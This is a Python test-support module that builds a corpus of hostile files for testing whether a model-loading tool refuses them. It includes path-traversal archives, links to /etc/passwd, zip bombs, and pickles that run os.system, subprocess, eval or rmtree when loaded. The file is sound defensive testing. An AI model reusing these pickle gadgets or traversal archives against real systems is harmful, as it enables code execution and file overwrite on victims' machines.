"""A corpus of hostile files, as code that makes them: each with what must happen to it.

`python tests/support/hostile.py` prints how many cases of each kind there are.
"""

from __future__ import annotations

# ruff: noqa: PTH109, PTH115, PTH118
import contextlib
import io
import os
import pickle
import signal
import stat
import struct
import sys
import tarfile
import threading
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

MARKER = "code-was-run"  # the file that the code in a hostile file would make, in the folder where a test stands
CANARY = "the-content-of-a-file-of-somebody-else"  # must be in nothing that is printed or written
Outcome = Literal["refused", "read", "passed over"]


@dataclass(frozen=True)
class Case:
    """One hostile thing.

    Args:
        kind: The kind of file, such as 'archive'.
        write: Makes it in a folder, and returns its path.
        outcome: 'refused' (one line that names the file), 'read' (as plain data) or 'passed over' (and said).
        says: Part of the refusal.
        slow: True where that takes more than half a second.
    """

    kind: str
    name: str
    write: Callable[[Path], Path]
    outcome: Outcome
    says: str = ""
    slow: bool = False

    def __str__(self) -> str:
        return self.name


CORPUS: list[Case] = []
SLOW = {
    "zip, a bomb",
    "tar.gz, a bomb",
    "tar.xz, a bomb",
    "zip of 20,000 files",
    "lists that unfold to 10**40",
    "100,000 lists in one another",
    "20,000 empty tensors",
    "search.json",
    "unfinished/begun.json",
    "networks/0/now.json",
    "now.json",
    "kd-runner.log",
    "console.log",
    ".hydra/hydra.yaml",
    "sweep.json",
}


def case(kind: str, name: str, outcome: Outcome, write: Callable[[Path], Path], says: str = "") -> None:
    """Add a case to the corpus."""
    CORPUS.append(Case(kind, name, write, outcome, says, name in SLOW or says in SLOW))


def cases(*kinds: str) -> list[Any]:
    """The cases of these kinds, as parameters of a test; three of four, and those that take long, are slow tests."""
    import pytest

    chosen = enumerate(case for case in CORPUS if case.kind in kinds)
    return [
        pytest.param(case, id=case.name, marks=[pytest.mark.slow] if case.slow or number % 4 else [])
        for number, case in chosen
    ]


def table() -> list[tuple[str, int, int, int, int]]:
    """For each kind: the number of cases, and of those that are refused, read and passed over."""
    counts = Counter((case.kind, case.outcome) for case in CORPUS)
    rows = []
    for kind in dict.fromkeys(case.kind for case in CORPUS):
        refused, read, passed = (counts[kind, outcome] for outcome in ("refused", "read", "passed over"))
        rows.append((kind, refused + read + passed, refused, read, passed))
    return rows


# What must not happen.

_HOOKED: list[Callable[[str, tuple[Any, ...]], None]] = []
RUNS_CODE = {
    "os.system",
    "os.exec",
    "os.fork",
    "os.forkpty",
    "os.posix_spawn",
    "os.spawn",
    "os.startfile",
    "subprocess.Popen",
    "pty.spawn",
    "socket.connect",
    "socket.getaddrinfo",
    "webbrowser.open",
    "ctypes.dlopen",
    "code.__new__",
}
CHANGES = {"os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.chmod", "os.link", "os.symlink", "os.truncate"}
CHANGES |= {"shutil.rmtree", "shutil.move", "os.chown", "os.utime"}


def _hook(event: str, arguments: tuple[Any, ...]) -> None:
    for watch in _HOOKED:
        watch(event, arguments)


sys.addaudithook(_hook)  # which cannot be taken away again


def _paths_of(event: str, arguments: tuple[Any, ...]) -> list[tuple[Any, int]]:
    """The paths that an event changes, each with the handle of the folder that it is relative to, or -1."""
    handles = [value for value in arguments if isinstance(value, int)]
    if event in ("os.rename", "os.link"):
        return list(zip(arguments[:2], handles[-2:], strict=False))
    path = arguments[1] if event == "os.symlink" else arguments[0]
    has_handle = event in ("os.remove", "os.rmdir", "os.mkdir", "os.chmod", "os.utime", "os.symlink", "shutil.rmtree")
    return [(path, handles[-1] if has_handle and handles else -1)]


@contextlib.contextmanager
def nothing_happens(allowed: Path, secrets: tuple[Path, ...] = ()) -> Iterator[None]:
    """Assert that in this block no program and no code starts, no connection is made, and nothing outside is changed.

    Args:
        allowed: The folder in which files may be written.
        secrets: Files that nobody may open.
    """
    seen: list[str] = []
    home, me = os.path.realpath(allowed), threading.get_ident()
    forbidden = {os.path.realpath(path) for path in secrets}

    def is_outside(path: Any, handle: int = -1) -> bool:
        if isinstance(path, int) or path is None or os.fsdecode(path) == os.devnull:
            return False
        try:  # what shutil.rmtree does is relative to a folder that it has opened
            start = os.readlink(f"/proc/self/fd/{handle}") if handle >= 0 else os.getcwd()
        except OSError:
            return False
        parent, name = os.path.split(os.path.join(start, os.fsdecode(path)))
        real = os.path.join(os.path.realpath(parent), name)
        return real != home and not real.startswith(f"{home}{os.sep}")

    def watch(event: str, arguments: tuple[Any, ...]) -> None:
        if threading.get_ident() != me:
            return
        if event in RUNS_CODE:
            seen.append(f"{event} {arguments!r}"[:200])
        elif event == "open" and not isinstance(arguments[0], int) and arguments[0] is not None:
            path, flags = os.fsdecode(arguments[0]), arguments[2] or 0
            writes = bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND))
            if (writes and is_outside(path)) or os.path.realpath(path) in forbidden:
                seen.append(f"open {path} {flags:o}")
        elif event in CHANGES and any(is_outside(*pair) for pair in _paths_of(event, arguments)):
            seen.append(f"{event} {arguments!r}"[:200])

    writes_no_bytecode, sys.dont_write_bytecode = sys.dont_write_bytecode, True  # a first import writes some
    _HOOKED.append(watch)
    try:
        yield
    finally:
        _HOOKED.remove(watch)
        sys.dont_write_bytecode = writes_no_bytecode
    assert not seen, seen
    assert not Path(MARKER).exists()


@contextlib.contextmanager
def bounded(seconds: float = 20, megabytes: int = 1500) -> Iterator[None]:
    """Fail where the block takes longer, or lets the process grow by more, than that."""
    if not hasattr(signal, "setitimer") or threading.current_thread() is not threading.main_thread():
        yield
        return

    def too_long(*_: object) -> None:
        pytest_fail(f"longer than {seconds} s")

    earlier = signal.signal(signal.SIGALRM, too_long)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    before = _peak()
    limit = _limit_memory(megabytes)
    try:
        yield
    finally:
        _limit_memory(None, limit)
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, earlier)
    assert _peak() - before < megabytes * 2**20, f"{(_peak() - before) / 2**20:.0f} MB"


def _limit_memory(megabytes: int | None, limit: tuple[int, int] | None = None) -> tuple[int, int] | None:
    """Let the process have so much more memory, and no more: a test must not end the machine; returns the old limit."""
    if not Path("/proc/self/statm").exists():
        return None
    import resource

    if limit is not None:
        resource.setrlimit(resource.RLIMIT_AS, limit)
    elif megabytes is not None:
        limit = resource.getrlimit(resource.RLIMIT_AS)
        pages = int(Path("/proc/self/statm").read_text().split()[0])
        resource.setrlimit(resource.RLIMIT_AS, (pages * resource.getpagesize() + (megabytes + 1000) * 2**20, limit[1]))
    return limit


def _peak() -> int:
    import resource

    size = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return size if sys.platform == "darwin" else size * 1024


def pytest_fail(reason: str) -> None:
    import pytest

    pytest.fail(reason)


# Archives.

SMALL = b"\x89PNG and so on"


def _zip(entries: list[tuple[Any, bytes]], name: str = "a.zip", **options: Any) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        import warnings

        with warnings.catch_warnings(), zipfile.ZipFile(folder / name, "w", **options) as archive:
            warnings.simplefilter("ignore")  # of names that stand twice
            for entry, content in entries:
                archive.writestr(entry, content)
        return folder / name

    return write


def _zip_mode(name: str, mode: int) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, mode << 16
    return entry


def _tar(entries: list[tuple[tarfile.TarInfo, bytes]], name: str = "a.tar", mode: str = "w") -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        with tarfile.open(folder / name, mode) as archive:  # type: ignore[call-overload]
            for entry, content in entries:
                entry.size = len(content) if entry.type in (tarfile.REGTYPE, tarfile.AREGTYPE) else 0
                archive.addfile(entry, io.BytesIO(content))
        return folder / name

    return write


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", mode: int = 0o644) -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname, entry.mode = kind, link, mode
    return entry


def _bytes(name: str, content: bytes) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        (folder / name).write_bytes(content)
        return folder / name

    return write


def _altered(write: Callable[[Path], Path], change: Callable[[bytes], bytes]) -> Callable[[Path], Path]:
    def write_altered(folder: Path) -> Path:
        path = write(folder)
        path.write_bytes(change(path.read_bytes()))
        return path

    return write_altered


OUTWARD = {
    "absolute": "/tmp/out.png",
    "up": "../out.png",
    "up from below": "a/b/../../../out.png",
    "backslashes": "..\\..\\out.png",
    "a drive": "C:\\out.png",
    "a drive without a slash": "C:out.png",
    "a share": "\\\\host\\share\\out.png",
    "two slashes": "//etc/out.png",
    "up at its end": "a/..",
    "mixed slashes": "a\\../..\\../out.png",
}
ODD_NAMES = {
    "escape sequences": "a/\x1b[2Jx.png",
    "line breaks": "a/x\ny.png",
    "a carriage return": "a/x\ry.png",
    "right to left": "a/\u202egnp.exe",
    "an option": "a/-rf",
    "a format": "a/%s%n{0}{}.png",
    "an interpolation": "a/${oc.env:HOME}.png",
    "a quote": "a/'\";x.png",
    "a tilde": "~/x.png",
    "dots": "a/....png",
    "spaces": "a/ .png",
}
for name, path in OUTWARD.items():
    case("archive", f"zip, {name}", "refused", _zip([("a/1.png", SMALL), (path, b"x")]), "paths inside its own folder")
    case("archive", f"tar, {name}", "refused", _tar([(_member(path), b"x")]), "paths inside its own folder")
for name, path in ODD_NAMES.items():
    case("archive", f"zip, name with {name}", "read", _zip([(path, SMALL), ("b/1.png", SMALL)]))
    case("archive", f"tar, name with {name}", "read", _tar([(_member(path), SMALL), (_member("b/1.png"), SMALL)]))
for name, kind, link in (
    ("a link to /etc/passwd", tarfile.SYMTYPE, "/etc/passwd"),
    ("a link to the folder above", tarfile.SYMTYPE, ".."),
    ("a link to itself", tarfile.SYMTYPE, "a/x"),
    ("a hard link out", tarfile.LNKTYPE, "/etc/passwd"),
    ("a hard link up", tarfile.LNKTYPE, "../../x"),
    ("a pipe", tarfile.FIFOTYPE, ""),
    ("a character device", tarfile.CHRTYPE, ""),
    ("a block device", tarfile.BLKTYPE, ""),
    ("an unknown kind", b"Z", ""),
):
    case("archive", f"tar, {name}", "refused", _tar([(_member("a/x", kind, link), b"")]), "files and folders alone")
for name, mode in (
    ("a link", stat.S_IFLNK),
    ("a pipe", stat.S_IFIFO),
    ("a socket", stat.S_IFSOCK),
    ("a character device", stat.S_IFCHR),
    ("a block device", stat.S_IFBLK),
):
    case(
        "archive",
        f"zip, {name}",
        "refused",
        _zip([(_zip_mode("a/x", mode | 0o777), b"/etc/passwd")]),
        "files and folders alone",
    )
LINK_THEN_FILE = [(_member("a", tarfile.SYMTYPE, "/tmp"), b""), (_member("a/x.png"), b"x")]
case("archive", "tar, a file through a link", "refused", _tar(LINK_THEN_FILE), "files and folders alone")
case("archive", "tar, rights of another user", "read", _tar([(_member("a/x.png", mode=0o6777), SMALL)]))
case("archive", "zip, rights of another user", "read", _zip([(_zip_mode("a/x.png", stat.S_IFREG | 0o6777), SMALL)]))
case("archive", "zip, a file twice", "read", _zip([("a/x.png", b"1"), ("a/x.png", b"2")]))
case("archive", "tar, a file twice", "read", _tar([(_member("a/x.png"), b"1"), (_member("a/x.png"), b"2")]))
case("archive", "zip, a file that is a folder, too", "refused", _zip([("a", b"1"), ("a/x.png", b"2")]), "unpacked")
case(
    "archive",
    "tar, a file that is a folder, too",
    "refused",
    _tar([(_member("a"), b"1"), (_member("a/x.png"), b"2")]),
    "unpacked",
)
case("archive", "zip, a name of 300 letters", "refused", _zip([(f"a/{'x' * 300}.png", b"1")]), "unpacked")
case("archive", "tar, a name of 300 letters", "refused", _tar([(_member(f"a/{'x' * 300}.png"), b"1")]), "unpacked")
case("archive", "zip, 3,000 folders in one another", "refused", _zip([("a/" * 3000 + "x.png", b"1")]), "unpacked")
case(
    "archive",
    "zip, a bomb",
    "refused",
    _zip([(f"a/{n}.png", bytes(2**26)) for n in range(4)], compression=zipfile.ZIP_DEFLATED),
    "MB of files in",
)
case(
    "archive",
    "tar.gz, a bomb",
    "refused",
    _tar([(_member(f"a/{n}.png"), bytes(2**26)) for n in range(4)], "a.tar.gz", "w:gz"),
    "MB of files in",
)
case(
    "archive",
    "tar.xz, a bomb",
    "refused",
    _tar([(_member("a/0.png"), bytes(2**27))], "a.tar.xz", "w:xz"),
    "MB of files in",
)


def _lying_zip(size: int) -> Callable[[Path], Path]:
    """A zip archive whose directory says another size than there is."""

    def change(content: bytes) -> bytes:
        at = content.rindex(b"PK\x01\x02")
        return content[: at + 24] + struct.pack("<I", size) + content[at + 28 :]

    return _altered(_zip([("a/x.png", bytes(2**20))], compression=zipfile.ZIP_DEFLATED), change)


def _huge_tar(size: int) -> bytes:
    entry = tarfile.TarInfo("a/x.png")
    entry.size = size
    return entry.tobuf(tarfile.GNU_FORMAT)


case("archive", "zip, a size that is too small", "refused", _lying_zip(10), "cannot be unpacked")
case("archive", "zip, a size of 4 GB", "refused", _lying_zip(2**32 - 2), "MB of files in")
case("archive", "tar, a size of 8 EB", "refused", _bytes("a.tar", _huge_tar(2**62)), "MB of files in")
case(
    "archive",
    "tar, a size below zero",
    "refused",
    _bytes("a.tar", _huge_tar(10)[:124] + b"\xff" * 12 + _huge_tar(10)[136:]),
    "cannot be unpacked",
)
case(
    "archive",
    "tar, a header of 4 GB",
    "refused",
    _bytes("a.tar", _huge_tar(2**32)[:156] + b"x" + _huge_tar(1)[157:]),
    "",
)
case("archive", "tar, NULs", "refused", _bytes("a.tar", bytes(5)), "cannot be unpacked")
case(
    "archive",
    "zip, NULs in a name",
    "read",
    _altered(_zip([("a/xQy.png", SMALL), ("b/1.png", SMALL)]), lambda content: content.replace(b"xQy", b"x\0y")),
)
case(
    "archive",
    "zip, a name that is no UTF-8",
    "refused",
    _altered(_zip([("a/ü.png", SMALL)]), lambda content: content.replace("ü".encode(), b"\xff\xfe")),
    "cannot be unpacked",
)
case(
    "archive",
    "zip, encrypted",
    "refused",
    _altered(
        _zip([("a/x.png", SMALL)]),
        lambda content: content.replace(b"\0\0\0\0\0\0!", b"\x01\0\0\0\0\0!").replace(
            b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0"
        ),
    ),
    "encrypted",
)
case("archive", "zip in a zip", "read", _zip([("a/b.zip", b"PK\x03\x04"), ("b/x.png", SMALL)]))
case("archive", "zip of 20,000 files", "read", _zip([(f"a/{n}", b"") for n in range(20_000)]))
for suffix in ("zip", "tar", "tar.gz", "tar.bz2", "tar.xz"):
    case("archive", f"{suffix}, cut short", "refused", _bytes(f"a.{suffix}", b"PK\x03\x04"), "cannot be unpacked")
    case("archive", f"{suffix}, a page", "refused", _bytes(f"a.{suffix}", b"<html>" * 200), "cannot be unpacked")
case(
    "archive",
    "tar.gz, 32 MB of zeros",
    "read",
    _bytes("a.tar.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + zlib.compress(bytes(2**25), 9)[2:-4]),  # no frame of zlib
    "",
)

# Pickles.


class Call:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def _torch(content: Callable[[], Any], **options: Any) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        import torch

        torch.save(content(), folder / "a.pth", **options)
        return folder / "a.pth"

    return write


def _torch_zip(pickled: bytes, beside: dict[str, bytes] | None = None) -> Callable[[Path], Path]:
    """A file as torch writes it, with other bytes for its pickle."""
    entries: dict[str, bytes] = {"a/data.pkl": pickled, "a/version": b"3\n", "a/byteorder": b"little", **(beside or {})}
    return _zip(list(entries.items()), "a.pth")


def _calls() -> dict[str, Call]:
    import builtins
    import importlib
    import runpy
    import shutil
    import subprocess
    import webbrowser

    import torch

    return {
        "os.system": Call(os.system, f"touch {MARKER}"),
        "posix_spawn": Call(getattr(os, "posix_spawn", os.system), "/bin/touch", ["touch", MARKER], {}),
        "subprocess": Call(subprocess.Popen, ["touch", MARKER]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", MARKER]),
        "eval": Call(builtins.eval, f"open({MARKER!r}, 'w')"),
        "exec": Call(builtins.exec, f"open({MARKER!r}, 'w')"),
        "open": Call(builtins.open, MARKER, "w"),
        "getattr": Call(builtins.getattr, "x", "upper"),
        "import": Call(importlib.import_module, "antigravity"),
        "runpy": Call(runpy.run_path, "evil.py"),
        "rmtree": Call(shutil.rmtree, "precious"),
        "chmod": Call(os.chmod, "precious", 0),
        "a browser": Call(webbrowser.open, "http://127.0.0.1/"),
        "pickle.loads": Call(pickle.loads, pickle.dumps(Call(os.system, f"touch {MARKER}"))),
        "torch.load": Call(torch.load, "inner.pth"),
        "torch.hub": Call(torch.hub.load, "x/y", "z"),
        "torch.jit.load": Call(torch.jit.load, "inner.pth"),
        "torch.save": Call(torch.save, {}, MARKER),
        "kd_runner": Call(_loaded, "x"),
    }


def _loaded(path: str) -> None:
    Path(MARKER).touch()


def _call_text(module: str, name: str, argument: str, protocol: int = 2) -> bytes:
    """A pickle that calls `module.name(argument)`, written by hand, since the function need not be here."""
    start = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    text = f"c{module}\n{name}\n(V{argument}\ntR."
    return start + text.encode()


def _later(call: Call) -> dict[str, Any]:
    import torch

    return {"fc.weight": torch.zeros(2, 3), "then": [1, {"deep": call}]}


for name, call in _calls().items():
    case(
        "pickle",
        f"torch.save, {name}",
        "refused",
        _torch(lambda call=call: _later(call)),
        "nothing in it was run"
        if name not in ("torch.load", "torch.jit.load", "torch.save", "torch.hub", "kd_runner")
        else "",
    )
    case(
        "pickle",
        f"the old format, {name}",
        "refused",
        _torch(lambda call=call: _later(call), _use_new_zipfile_serialization=False),
    )
for protocol in range(6):
    for name, call in (("os.system", _calls()["os.system"]), ("eval", _calls()["eval"])):
        try:
            plain = pickle.dumps({"a": call}, protocol)
        except Exception:  # this protocol has no word for it
            continue
        case("pickle", f"a plain pickle of protocol {protocol}, {name}", "refused", _bytes("a.pkl", plain))
        case("pickle", f"zipped, protocol {protocol}, {name}", "refused", _torch_zip(plain))
for module, attribute in (
    ("nt", "system"),
    ("posix", "system"),
    ("commands", "getoutput"),
    ("__builtin__", "eval"),
    ("builtins", "exec"),
    ("builtins", "__import__"),
    ("builtins", "compile"),
    ("os", "popen"),
    ("pty", "spawn"),
    ("code", "interact"),
    ("timeit", "timeit"),
    ("cProfile", "run"),
    ("pdb", "run"),
    ("bdb", "Bdb"),
    ("ctypes", "CDLL"),
    ("torch.serialization", "load"),
    ("torch.utils.cpp_extension", "load_inline"),
    ("torch.hub", "load"),
    ("torch._utils_internal", "x"),
    ("torch.distributed.run", "main"),
    ("torch._dynamo.config", "x"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy.core.multiarray", "fromfile"),
    ("numpy", "load"),
    ("pip", "main"),
    ("pydoc", "pipepager"),
    ("asyncio.unix_events", "_UnixSubprocessTransport"),
    ("marshal", "loads"),
    ("functools", "partial"),
    ("operator", "attrgetter"),
    ("collections", "OrderedDict.fromkeys"),
    ("types", "CodeType"),
    ("kd_runner.sweeps.engines.child", "call_function"),
    ("kd_runner.config.build", "build"),
    ("PIL.Image", "open"),
    ("io", "open"),
    ("\u0430rgparse", "Namespace"),
    ("torch", "os.system"),
    ("torch.nn", "os.system"),
    ("torch", "load"),
):
    for protocol in (0, 2, 4):
        raw = _call_text(module, attribute, f"touch {MARKER}", protocol)
        case("pickle", f"{module}.{attribute}, protocol {protocol}", "refused", _torch_zip(raw))

MEMO = b"".join(
    (
        b"\x80\x02",
        b"X\x05\0\0\0posixq\x01",
        b"X\x06\0\0\0systemq\x02",
        b"h\x01h\x02\x93",
        b"V",
        MARKER.encode(),
        b"\n\x85R.",
    )
)
TRICKS = {
    "a name from the memo": MEMO,
    "a name written over in the memo": b"\x80\x02X\x04\0\0\0safeq\x01X\x05\0\0\0posixq\x010h\x01X\x06\0\0\0system\x93.",
    "a memo without an entry": b"\x80\x02h\x09.",
    "a memo of 4 billion": b"\x80\x02Nr\xff\xff\xff\xff.",
    "a pop of nothing": b"\x80\x020.",
    "a mark without an end": b"\x80\x02(" * 1000 + b".",
    "an object that is built from itself": b"\x80\x02}q\0h\0h\0s.",
    "a list that holds itself": b"\x80\x02]q\0h\0a.",
    "an extension registry": b"\x80\x02\x82\x01.",
    "a persistent name": b"\x80\x02Vx\nQ.",
    "a persistent name of protocol 0": b"Pevil\n.",
    "a next buffer": b"\x80\x05\x97.",
    "a frame of 8 EB": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f.",
    "a text of 4 GB": b"\x80\x02X\xff\xff\xff\xff.",
    "bytes of 8 EB": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
    "a long of 2 GB": b"\x80\x02\x8b\xff\xff\xff\x7f.",
    "a decimal of 100,000 digits": b"\x80\x02L" + b"9" * 100_000 + b"L\n.",
    "two pickles": b"\x80\x02}." + pickle.dumps(Call(os.system, f"touch {MARKER}"), 2),
    "a protocol of 255": b"\x80\xff}.",
    "100,000 lists in one another": b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".",
    "a class by INST": f"(Vtouch {MARKER}\nios\nsystem\n.".encode(),
    "an object by OBJ": f"\x80\x02(cos\nsystem\nVtouch {MARKER}\no.".encode("latin-1"),
    "NEWOBJ of a function": f"\x80\x02cos\nsystem\nVtouch {MARKER}\n\x85\x81.".encode("latin-1"),
    "BUILD with a state": b"\x80\x02ccollections\nOrderedDict\n)R}(V__class__\ncos\nsystem\nub.",
    "a setstate of a tensor": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n)R.",
    "a rebuild from nothing": b"\x80\x02ctorch._utils\n_rebuild_parameter\n(NNNtR.",
    "no end": b"\x80\x02}q\0",
    "nothing": b"",
    "a GLOBAL with a line break": b"\x80\x02cos\n\n.",
    "a GLOBAL that is no UTF-8": b"\x80\x02c\xff\xfe\nx\n.",
    "reduce with a text": b"\x80\x02Vx\nVy\n\x85R.",
}
for name, raw in TRICKS.items():
    case("pickle", name, "refused", _torch_zip(raw))


def _shared_lists() -> Any:
    import torch

    content: Any = [torch.zeros(1)]
    for _ in range(40):
        content = [content] * 10
    return content


def _jit(folder: Path) -> Path:
    import torch

    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), str(folder / "a.pt"))
    return folder / "a.pt"


def _whole_network() -> Any:
    import torch

    return torch.nn.Linear(2, 2)


def _old_tar(folder: Path) -> Path:
    raw = pickle.dumps(Call(os.system, f"touch {MARKER}"), 2)
    return _tar([(_member("sys_info"), raw), (_member("pickle"), raw), (_member("storages"), raw)], "a.pth")(folder)


case("pickle", "lists that unfold to 10**40", "refused", _torch(_shared_lists), "without end")
case("pickle", "a whole network", "refused", _torch(_whole_network), "runs their code")
case("pickle", "a TorchScript archive", "refused", _jit, "TorchScript")
case("pickle", "a tar of torch before 0.1.10", "refused", _old_tar, "tar")
case("pickle", "a zip in a zip", "refused", _zip([("a/b.pth", b"PK\x03\x04" + MEMO)], "a.pth"), "zip archive")
case("pickle", "two data.pkl", "refused", _zip([("a/data.pkl", b"\x80\x02}."), ("b/data.pkl", MEMO)], "a.pth"))
case("pickle", "data.pkl twice", "refused", _zip([("a/data.pkl", b"\x80\x02}."), ("a/data.pkl", MEMO)], "a.pth"))
case(
    "pickle",
    "a bomb",
    "refused",
    _zip(
        [("a/data.pkl", b"\x80\x02}." + bytes(2**26)), ("a/version", b"3")], "a.pth", compression=zipfile.ZIP_DEFLATED
    ),
    "times larger",
)
case("pickle", "a data.pkl that leads out", "refused", _zip([("../data.pkl", MEMO)], "a.pth"))
case("pickle", "bytes before the zip", "refused", _altered(_torch_zip(MEMO), lambda content: MEMO + content))
case("pickle", "code beside the pickle", "refused", _torch_zip(MEMO, {"a/code/x.py": b"import os"}))
for name, raw in (
    ("NumPy objects", b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + MEMO),
    ("HDF5", b"\x89HDF\r\n\x1a\n" + MEMO),
    ("a program", b"\x7fELF" + bytes(100)),
    ("a page", b"<!doctype html>"),
    ("JSON", b'{"a": 1}'),
    ("text with escape sequences", b"\x1b]0;owned\x07hello"),
    ("nothing", b""),
    ("NULs", bytes(99)),
):
    case("pickle", f"not weights: {name}", "refused", _bytes("a.pth", raw))

# safetensors.


def _safetensors(header: bytes | str, data: bytes = b"", length: int | None = None) -> Callable[[Path], Path]:
    raw = header.encode() if isinstance(header, str) else header
    size = len(raw) if length is None else length
    return _bytes("a.safetensors", struct.pack("<Q", size) + raw + data)


def _tensor(start: int = 0, end: int = 4, shape: str = "[1]", dtype: str = "F32") -> str:
    return f'{{"dtype":"{dtype}","shape":{shape},"data_offsets":[{start},{end}]}}'


F4 = bytes(4)
HEADERS: dict[str, tuple[Outcome, Callable[[Path], Path]]] = {
    "a header of no bytes": ("refused", _safetensors("", length=0)),
    "a length beyond the file": ("refused", _safetensors(f'{{"a":{_tensor()}}}', F4, 10**6)),
    "a length of 100 TB": ("refused", _safetensors(f'{{"a":{_tensor()}}}', F4, 10**14)),
    "a length below zero": ("refused", _safetensors(f'{{"a":{_tensor()}}}', F4, 2**64 - 1)),
    "a length that is too short": ("refused", _safetensors(f'{{"a":{_tensor()}}}', F4, 7)),
    "offsets below zero": ("refused", _safetensors(f'{{"a":{_tensor(-4, 0)}}}', F4)),
    "offsets backwards": ("refused", _safetensors(f'{{"a":{_tensor(4, 0)}}}', F4)),
    "offsets beyond the file": ("refused", _safetensors(f'{{"a":{_tensor(0, 400, "[100]")}}}', F4)),
    "offsets of 2**64": ("refused", _safetensors(f'{{"a":{_tensor(0, 2**64, "[1]")}}}', F4)),
    "offsets that overlap": ("refused", _safetensors(f'{{"a":{_tensor()},"b":{_tensor()}}}', F4)),
    "a hole": ("refused", _safetensors(f'{{"a":{_tensor(4, 8)}}}', bytes(8))),
    "bytes left over": ("refused", _safetensors(f'{{"a":{_tensor()}}}', bytes(99))),
    "a shape that is larger than its bytes": ("refused", _safetensors(f'{{"a":{_tensor(shape="[1000000000]")}}}', F4)),
    "a shape that overflows": ("refused", _safetensors(f'{{"a":{_tensor(shape="[4294967296,4294967296]")}}}', F4)),
    "a shape below zero": ("refused", _safetensors(f'{{"a":{_tensor(shape="[-1]")}}}', F4)),
    "a shape of 100,000 sides": ("read", _safetensors(f'{{"a":{_tensor(shape=str([1] * 100_000))}}}', F4)),
    "a shape of texts": ("refused", _safetensors("""{"a":{"dtype":"F32","shape":["x"],"data_offsets":[0,4]}}""", F4)),
    "an unknown dtype": ("refused", _safetensors(f'{{"a":{_tensor(dtype="PICKLE")}}}', F4)),
    "no dtype": ("refused", _safetensors('{"a":{"shape":[1],"data_offsets":[0,4]}}', F4)),
    "a list in place of an object": ("refused", _safetensors('{"a":[1]}', F4)),
    "a broken header": ("refused", _safetensors('{"a":', F4)),
    "a header with a BOM": ("refused", _safetensors(b'\xef\xbb\xbf{"a":{}}', F4)),
    "a header that is no UTF-8": ("refused", _safetensors(b'{"\xff":{}}', F4)),
    "a header nested 50,000 times": ("refused", _safetensors('{"a":' * 50_000 + "1" + "}" * 50_000, F4)),
    "a header of numbers without end": ("refused", _safetensors('{"a":' + "9" * 50_000 + "}", F4)),
    "NaN": ("refused", _safetensors('{"a":NaN}', F4)),
    "metadata that are no text": (
        "refused",
        _safetensors(f'{{"__metadata__":{{"kd_runner":{{}}}},"a":{_tensor()}}}', F4),
    ),
    "metadata that are a list": ("refused", _safetensors(f'{{"__metadata__":["x"],"a":{_tensor()}}}', F4)),
    "a key twice": ("read", _safetensors(f'{{"a":{_tensor()},"a":{_tensor()}}}', F4)),
    "a name with escape sequences": ("read", _safetensors(f'{{"\\u001b[2J\\n":{_tensor()}}}', F4)),
    "a name of 100,000 letters": ("read", _safetensors(f'{{"{"x" * 100_000}":{_tensor()}}}', F4)),
    "a name with a path": ("read", _safetensors(f'{{"../../x":{_tensor()}}}', F4)),
    "no tensors": ("read", _safetensors("{}", b"")),
    "20,000 empty tensors": (
        "read",
        _safetensors("{" + ",".join(f'"{n}":{_tensor(0, 0, "[0]")}' for n in range(20_000)) + "}"),
    ),
}
for name, (outcome, write) in HEADERS.items():
    case("safetensors", name, outcome, write)


def _with_metadata(text: str) -> Callable[[Path], Path]:
    import json

    return _safetensors(f'{{"__metadata__":{{"kd_runner":{json.dumps(text)}}},"a":{_tensor()}}}', F4)


METADATA = {
    "no JSON": "{",
    "a list": "[]",
    "NaN": "NaN",
    "nested 100,000 times": "[" * 100_000,
    "nothing in it": "{}",
    "a number of 5,000 digits": '{"num_classes": ' + "9" * 5000 + "}",
    "the wrong kinds": '{"network": [], "num_classes": "x", "classes": {}, "mean": 1, "std": null, "image_shape": "abc"}',  # noqa: E501
    "an empty shape": '{"network": {}, "num_classes": 1, "classes": [], "mean": [], "std": [], "image_shape": []}',
    **{
        f"a network that is {target}": (
            f'{{"network": {{"_target_": "{target}", "command": "touch {MARKER}"}}, "num_classes": 1, "classes": ["a"], '  # noqa: E501
            '"mean": [0.5], "std": [0.5], "image_shape": [1, 8, 8]}'
        )
        for target in (
            "os.system",
            "subprocess.run",
            "builtins.eval",
            "torch.load",
            "torch.hub.load",
            "kd_runner.sweeps.engines.child.call_function",
            "timm.models.load_state_dict",
            "timm.utils.update_summary",
            "torch.nn.modules.os.system",
            "runpy.run_path",
            "kd_runner.networks.checkpoints.load",
            "kd_runner.files.atomic.write",
            "kd_runner.cli.main",
            "",
            "..",
            "a",
            "torchvision.models.os.system",
            "kd_runner.store.command.main",
            "torch.nn.Module.__init__.__globals__",
        )
    },
}
for name, text in METADATA.items():
    case("safetensors metadata", name, "refused", _with_metadata(text))

